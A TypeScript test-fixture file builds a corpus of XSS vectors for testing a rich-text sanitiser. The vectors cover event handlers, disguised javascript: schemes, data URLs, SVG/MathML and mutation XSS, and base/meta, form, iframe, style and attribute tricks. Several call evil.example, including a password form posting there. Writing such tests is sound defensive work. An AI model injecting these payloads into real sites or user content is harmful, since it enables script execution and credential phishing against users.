// The project's own XSS vectors for the rich-text sanitiser, beside DOMPurify's corpus: built
// from families of attacks (each a few shapes crossed with the tricks that hide them), so that
// a new trick added to a family is tried in every place it could hide. The tests assert
// properties of the output (testing/expect-safe.ts), never an exact string.

export type OwnVector = { family: string; payload: string };

const alert = 'alert(1)';

/** Elements that fire an event without a click, and the attributes that get them there. */
const handlerHosts = [
  '<img src=x {h}>',
  '<img src="x" {h}/>',
  '<a href="#" {h}>a</a>',
  '<p {h}>p</p>',
  '<div tabindex=1 autofocus {h}>d</div>',
  '<details open {h}><summary>s</summary></details>',
  '<video src=x {h}></video>',
  '<audio src=x {h}></audio>',
  '<input autofocus {h}>',
  '<body {h}>',
  '<marquee {h}>m</marquee>',
  '<span {h}>s</span>',
];

const handlers = [
  `onerror=${alert}`,
  `onload="${alert}"`,
  `OnErRoR='${alert}'`,
  `onfocus=${alert}`,
  `ontoggle=${alert}`,
  `onmouseover=${alert}`,
  `onanimationstart=${alert}`,
  `onpointerenter=${alert}`,
];

function eventHandlers(): OwnVector[] {
  // Every host with two handlers (a fixed stride keeps the count in bounds), plus the odd
  // separators a parser accepts between a tag's name and its attributes.
  const vectors = handlerHosts.flatMap((host, index) =>
    [0, 3].map((offset) => {
      const handler = handlers[(index + offset) % handlers.length] ?? handlers[0];
      return host.replace('{h}', handler ?? '');
    }),
  );
  const separators = ['/', '\t', '\n', '\f', '/"/', "/'/"];
  for (const separator of separators)
    vectors.push(`<img${separator}src=x${separator}onerror=${alert}>`);
  vectors.push(`<img src=x onerror\n=\n${alert}>`, `<img src=x on\u0000error=${alert}>`);
  vectors.push(`<img src=x ""onerror=${alert}>`, `<img src=x =onerror=${alert}>`);
  return vectors.map((payload) => ({ family: 'event handler', payload }));
}

/** Ways to write `javascript:` that a browser still reads as the scheme. */
const scriptSchemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  'java\tscript:',
  'java\nscript:',
  'java&#x09;script:',
  'java&#10;script:',
  'jav&NewLine;ascript:',
  '&#106;avascript:',
  '&#x6A;&#x61;&#x76;&#x61;script:',
  '&#0000106;avascript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3a;',
  '&#x20;javascript:',
  '\u0001javascript:',
  'javascript\u0000:',
  'vbscript:',
  'VBScript:',
  'livescript:',
  'mocha:',
];

/** Where a URL can carry a script, allowed by the sanitiser or not. */
const urlHosts = [
  '<a href="{u}">x</a>',
  '<a href={u}>x</a>',
  '<img src="{u}">',
  '<blockquote cite="{u}">q</blockquote>',
  '<q cite="{u}">q</q>',
  '<form action="{u}"><button>x</button></form>',
  '<button formaction="{u}">x</button>',
  '<iframe src="{u}"></iframe>',
  '<object data="{u}"></object>',
  '<embed src="{u}">',
  '<svg><a xlink:href="{u}"><text>x</text></a></svg>',
  '<math href="{u}">x</math>',
];

function urlSchemes(): OwnVector[] {
  const vectors: string[] = [];
  scriptSchemes.forEach((scheme, index) => {
    // Each trick in the two allowed URL attributes and one other place.
    for (const host of [urlHosts[0], urlHosts[2], urlHosts[(index % (urlHosts.length - 3)) + 3]]) {
      if (host) vectors.push(host.replace('{u}', `${scheme}${alert}`));
    }
  });
  const dataUrls = [
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
    'DATA:text/html,x',
    ' data:text/javascript,alert(1)',
    'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  ];
  for (const url of dataUrls) {
    vectors.push(`<a href="${url}">x</a>`, `<img src="${url}">`);
  }
  return vectors.map((payload) => ({ family: 'URL scheme', payload }));
}

const foreign = [
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><mtext><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  '<p><svg><a href="javascript:alert(1)"><circle r=40></circle></a></svg></p>',
  '<table><svg><img src=x onerror=alert(1)></svg></table>',
  '<div><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg></div>',
  '<svg><xmp><img src=x onerror=alert(1)></xmp></svg>',
  '<svg xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=alert(1)></svg>',
];

const mutation = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p><noscript></p><img src=x onerror=alert(1)></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<template><p title="</template><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<p><!--</p><img src=x onerror=alert(1)>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<p title="--><img src=x onerror=alert(1)>"><!--',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><a><table><a href="javascript:alert(1)">x</a></table></a></table>',
  '<a><b><a href="javascript:alert(1)">x</a></b></a>',
  '<select><template><style></template><img src=x onerror=alert(1)></select>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<div title="&lt;img src=x onerror=alert(1)&gt;">d</div>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<a title="&#x22;><img src=x onerror=alert(1)>">x</a>',
];

const documentLevel = [
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/"><a href="/download">x</a>',
  '<base target="_top"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  '<head><script>alert(1)</script></head>',
  '<html onmouseover=alert(1)>x</html>',
  '<body background="javascript:alert(1)">',
];

const forms = [
  '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
  '<form id="x"></form><button form="x" formaction="javascript:alert(1)">x</button>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<input type="hidden" accesskey="x" onclick="alert(1)">',
  '<isindex action="javascript:alert(1)" type=image>',
  '<button popovertarget="x" onclick="alert(1)">x</button>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<keygen autofocus onfocus=alert(1)>',
  '<form><input name="attributes"><input name="removeChild"></form>',
];

const embedded = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<iframe src="https://evil.example/" sandbox="allow-scripts allow-top-navigation"></iframe>',
  '<frameset onload=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  '<object><param name="src" value="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<applet code="x" codebase="javascript:alert(1)"></applet>',
  '<portal src="https://evil.example/"></portal>',
  '<p srcdoc="<script>alert(1)</script>">p</p>',
  '<img srcset="javascript:alert(1) 1x">',
  '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
];

const styles = [
  '<p style="background:url(javascript:alert(1))">p</p>',
  '<div style="behavior:url(x.htc)">d</div>',
  '<div style="width:expression(alert(1))">d</div>',
  '<span style="position:fixed;inset:0;z-index:9999">cover</span>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<style>p{}</style><p>x</p>',
  '<p class="x" style="-moz-binding:url(x.xml#x)">p</p>',
  '<code class="language-js" style="color:red">x</code>',
  '<div><style></div><img src=x onerror=alert(1)>',
];

const dataAttributes = [
  '<p data-x="javascript:alert(1)">p</p>',
  '<div data-bind="html: alert(1)">d</div>',
  '<span data-src="javascript:alert(1)">s</span>',
  '<a href="#" data-toggle="x" data-target="<img src=x onerror=alert(1)>">a</a>',
  '<div data-ng-click="alert(1)">d</div>',
  '<img src=x data-onerror="alert(1)">',
  '<p aria-label="x" role="button" tabindex="0" data-action="alert(1)">p</p>',
  '<div x-on:click="alert(1)">d</div>',
  '<div v-html="\'<img src=x onerror=alert(1)>\'">d</div>',
  '<p id="__proto__" name="constructor">p</p>',
];

const allowedElementsMisused = [
  '<a href="https://example.com" target="_self">x</a>',
  '<a href="https://example.com" target="opener">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="https://example.com" rel="opener">x</a>',
  '<a href="https://example.com" ping="https://evil.example/">x</a>',
  '<a href="https://example.com" download>x</a>',
  '<img src="https://example.com/a.png" width="100%" height="1e9">',
  '<img src="https://example.com/a.png" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
  '<code class="language-js foo-bar lang-\'onerror">x</code>',
  '<ol type="javascript:alert(1)" start="1e9"><li>x</li></ol>',
  '<td colspan="1 onmouseover=alert(1)">x</td>',
  '<time datetime="2024-01-01&quot; onmouseover=&quot;alert(1)">t</time>',
  '<h2 id="main">h</h2><h2 id="__next">h</h2>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>s</summary></details>',
];

function listed(family: string, payloads: readonly string[]): OwnVector[] {
  return payloads.map((payload) => ({ family, payload }));
}

export const ownVectors: readonly OwnVector[] = [
  ...eventHandlers(),
  ...urlSchemes(),
  ...listed('SVG and MathML', foreign),
  ...listed('mutation XSS', mutation),
  ...listed('base, meta and link', documentLevel),
  ...listed('form', forms),
  ...listed('iframe, object, embed and srcdoc', embedded),
  ...listed('style', styles),
  ...listed('data-* and framework attributes', dataAttributes),
  ...listed('allowed elements misused', allowedElementsMisused),
];
